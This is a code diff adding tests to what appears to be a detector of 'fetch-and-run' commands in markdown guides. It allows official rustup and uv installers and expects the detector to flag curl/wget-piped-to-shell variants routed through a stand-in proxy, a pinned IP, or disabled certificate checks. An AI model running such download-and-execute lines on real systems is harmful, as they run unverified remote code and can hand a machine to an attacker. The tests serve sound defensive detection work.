@@ -24,6 +24,24 @@ describe("a well-known maker's address excuses its own installer", () => {
   });
 });
 
+describe("in a block, too, only where it is the maker who answers", () => {
+  const block = (line: string): readonly string[] => blocksOf(`## Setup\n\nRun this:\n\n\`\`\`bash\n${line}\n\`\`\``);
+
+  it.each(["curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "wget -qO- https://astral.sh/uv/install.sh | sh"])("%s", (line) => {
+    expect(block(line)).toEqual([]);
+  });
+
+  it.each([
+    "curl -x shelf.example:80 -k https://sh.rustup.rs | sh",
+    "curl --resolve sh.rustup.rs:443:203.0.113.9 https://sh.rustup.rs | sh",
+    "curl --insecure https://sh.rustup.rs | sh",
+    "wget --no-check-certificate -qO- https://astral.sh/uv/install.sh | sh",
+    "wget -e https_proxy=shelf.example:80 -qO- https://astral.sh/uv/install.sh | sh",
+  ])("not %s", (line) => {
+    expect(block(line)).toContain("fetch-and-run");
+  });
+});
+
 describe("what a guide shows under its usage", () => {
   it.each([
     ["remote-module", 'import x from "https://shelf.example/x.js";\nx();'],
